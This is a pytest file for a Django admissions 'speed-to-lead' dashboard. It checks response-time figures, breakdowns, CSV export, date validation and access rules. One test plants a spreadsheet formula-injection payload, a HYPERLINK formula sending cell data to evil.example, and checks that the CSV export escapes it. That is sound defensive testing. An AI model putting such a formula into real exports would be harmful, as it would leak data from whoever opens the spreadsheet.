"""The speed-to-lead dashboard against a hand-made set of inquiries whose times are known."""

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.utils import timezone
from django.utils.formats import date_format

from admissions.dashboard.figures import figures, period_inquiries
from intake.models import Inquiry

from ..factories import InquiryFactory, ReferralSourceFactory
from ..intake_helpers import form_data
from ..markup import captioned, cells, definition, one, parse, select

pytestmark = pytest.mark.django_db

LA = ZoneInfo("America/Los_Angeles")
NOW = datetime(2026, 6, 15, 12, 0, tzinfo=LA)
URL = "/admin/intake/inquiry/speed-to-lead/"


def arrived(minutes_before_now=120, attempt=None, reach=None, **fields):
    created = NOW - timedelta(minutes=minutes_before_now)
    return InquiryFactory(
        created_at=created,
        first_contact_at=created + timedelta(minutes=attempt) if attempt is not None else None,
        first_reached_at=created + timedelta(minutes=reach) if reach is not None else None,
        **fields,
    )


@pytest.fixture
def known():
    source = ReferralSourceFactory(name="Valley Hospital")
    first_touch = {"first_touch": {"utm_campaign": "iop-search"}}
    inquiries = {
        "a": arrived(attempt=5, reach=5, status="admitted", attribution=first_touch, payment="insurance"),
        "b": arrived(attempt=10, reach=30, status="assessment_scheduled", channel="phone", payment="self_pay"),
        "c": arrived(attempt=20, status="contact_attempted", channel="referral", referral_source=source),
        "d": arrived(
            attempt=40,
            reach=60,
            status="closed",
            close_reason="insurance",
            closed_at=NOW,
            assessment_scheduled_at=NOW - timedelta(minutes=30),
        ),
        "e": arrived(minutes_before_now=60 * 24 * 3, status="new"),
        "spam": arrived(attempt=1, status="spam"),
        "old": arrived(minutes_before_now=60 * 24 * 40, attempt=1, reach=1),
    }
    return inquiries


def test_the_figures_match_the_known_times(known):
    with time_machine.travel(NOW, tick=False):
        result = figures(date(2026, 5, 17), date(2026, 6, 15))
    total = result.total
    assert (total.inquiries, total.contacted, total.assessed, total.admitted) == (5, 3, 3, 1)
    # First attempts 5, 10, 20, 40 min: nearest rank ⌈0.5·4⌉ = 2nd and ⌈0.9·4⌉ = 4th.
    assert (total.attempt_median, total.attempt_p90) == (10, 40)
    # First reach 5, 30, 60 min.
    assert (total.reach_median, total.reach_p90) == (30, 60)
    assert total.within_target == 2 and total.within_target_share == 0.4
    assert result.close_reasons == [("Insurance or cost", 1)]
    by_day = dict(result.by_day)
    assert len(by_day) == 30 and by_day[date(2026, 6, 15)] == 4 and by_day[date(2026, 6, 12)] == 1
    channel = {row.group: row for row in result.breakdowns["channel"][1]}
    assert {name: row.inquiries for name, row in channel.items()} == {"Website form": 3, "Phone call": 1, "Referral": 1}
    assert channel["Website form"].attempt_median == 5 and channel["Phone call"].reach_median == 30
    referral = {row.group: row.inquiries for row in result.breakdowns["referral"][1]}
    assert referral == {"Valley Hospital": 1, "(none)": 4}
    campaign = {row.group: row.inquiries for row in result.breakdowns["campaign"][1]}
    assert campaign == {"iop-search": 1, "(none)": 4}
    payment = {row.group: row.admitted for row in result.breakdowns["payment"][1]}
    assert payment["Insurance"] == 1 and payment["Self-pay"] == 0


def test_the_page_shows_charts_with_tables_and_a_csv(admissions_client, known):
    with time_machine.travel(NOW, tick=False):
        page = admissions_client.get(URL)
        download = admissions_client.get(URL, {"start": "2026-05-17", "end": "2026-06-15", "format": "csv"})
    html = parse(page)
    assert one(html, "#content-main > h2").text == "May 17, 2026 to Jun 15, 2026"
    charts = [(svg.attrs["class"], svg.attrs["aria-labelledby"]) for svg in select(html, "[role=img]")]
    assert charts == [("chart", "by-day-heading"), ("chart chart-rows", "funnel-heading")]
    by_day = cells(captioned(html, "Inquiries that arrived each day, highest 4"))
    assert len(by_day) == 30
    assert by_day[-4:] == [["Fri, Jun 12", "1"], ["Sat, Jun 13", "0"], ["Sun, Jun 14", "0"], ["Mon, Jun 15", "4"]]
    assert cells(captioned(html, "How many inquiries reached each stage")) == [
        ["Inquiries", "5"], ["Reached", "3"], ["Assessment scheduled", "3"], ["Admitted", "1"]
    ]  # fmt: skip
    assert cells(captioned(html, "Why inquiries were closed")) == [["Insurance or cost", "1"]]
    assert one(html, "#by-referral").text == "By referral source"
    assert cells(one(html, "[aria-labelledby=by-referral] table")) == [
        ["(none)", "4", "3", "3", "1", "50%", "10.0", "40.0", "30.0"],
        ["Valley Hospital", "1", "0", "0", "0", "0%", "20.0", "20.0", "—"],
    ]
    assert definition(html, "First attempt within the 15-minute target") == "40% (2 of 5)"
    assert "Test Person" not in page.content.decode()  # figures only, no one named
    assert download["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    total = next(row for row in rows if row[0] == "total")
    assert total[1:6] == ["all", "5", "3", "3", "1"] and total[7:9] == ["10.0", "40.0"]
    assert ["close reasons", "Insurance or cost", "1"] in rows


@pytest.mark.parametrize(
    "query, field, message",
    [
        ({"start": "2026-06-15", "end": "2026-06-01"}, "end", "The end of the period comes before its start."),
        ({"start": "2020-01-01", "end": "2026-06-01"}, "end", "Choose a period of at most two years."),
        ({"start": "yesterday", "end": "2026-06-01"}, "start", "Enter a valid date."),
        ({"start": "1999-12-31", "end": "2000-01-02"}, "start", "Choose a date between 2000 and {next_year}."),
    ],
)
def test_a_bad_period_gets_a_clear_message_and_the_default_figures(admissions_client, query, field, message):
    response = admissions_client.get(URL, {**query, "format": "csv"})
    assert response.status_code == 200
    today = timezone.localdate()
    shown = f"{date_format(today - timedelta(days=29), 'M j, Y')} to {date_format(today, 'M j, Y')}"
    page = parse(response)
    assert one(page, "p.errornote").text == f"Please correct the period below; the figures shown are for {shown}."
    errors = [(error.attrs["id"], error.text) for error in select(page, "form.dashboard-period p.errorlist")]
    assert errors == [(f"id_{field}_error", message.format(next_year=today.year + 1))]
    assert one(page, "#content-main > h2").text == shown


def test_only_admissions_and_superusers_see_the_dashboard(client, editor_client, superuser):
    assert editor_client.get(URL).status_code == 403
    client.force_login(superuser)
    assert client.get(URL).status_code == 200
    client.logout()
    assert client.get(URL).status_code == 302


def test_an_empty_period_shows_no_figures_without_error(admissions_client):
    page = parse(admissions_client.get(URL))
    for key in ("channel", "referral", "campaign", "payment"):
        assert cells(one(page, f"[aria-labelledby=by-{key}] table")) == [["No inquiries in this period."]], key
    assert cells(captioned(page, "Why inquiries were closed")) == [["None closed in this period."]]
    assert Inquiry.objects.count() == 0


def test_a_formula_a_visitor_brought_in_a_link_reaches_the_csv_as_text(client, admissions_user):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    client.get("/faq/", {"utm_campaign": formula})
    assert client.post("/contact/", form_data()).status_code == 302
    client.force_login(admissions_user)
    today = timezone.localdate().isoformat()
    download = client.get(URL, {"start": today, "end": today, "format": "csv"})
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    campaigns = [row[1] for row in rows if row[0] == "First-touch campaign"]
    assert campaigns == [f"'{formula}"]


def test_a_merged_duplicate_is_not_counted_twice():
    earlier = InquiryFactory(name="Counted Once")
    later = InquiryFactory(name="Same Person Again")
    Inquiry.objects.filter(pk=later.pk).update(merged_into=earlier, status="closed", close_reason="duplicate")
    today = timezone.localdate()
    assert list(period_inquiries(today, today).values_list("name", flat=True)) == ["Counted Once"]


def test_each_scrolling_table_is_a_region_named_apart_from_its_section(admissions_client, known):
    # axe landmark-unique: a region named by its section's own heading is the same landmark twice.
    page = admissions_client.get("/admin/intake/inquiry/speed-to-lead/")
    names = []
    for section in select(page, "section[aria-labelledby]"):
        for region in section.select("[role=region]"):
            label = region.attrs.get("aria-label") or one(page, "#" + region.attrs["aria-labelledby"]).text
            heading = one(page, "#" + section.attrs["aria-labelledby"]).text
            assert label != heading
            names.append(label)
    assert names == [
        "Funnel and median days between steps, by channel",
        "Funnel and median days between steps, by referral source",
        "Table by channel",
        "Table by referral source",
        "Table by first-touch campaign",
        "Table by level of care",
        "Table by payment",
    ]
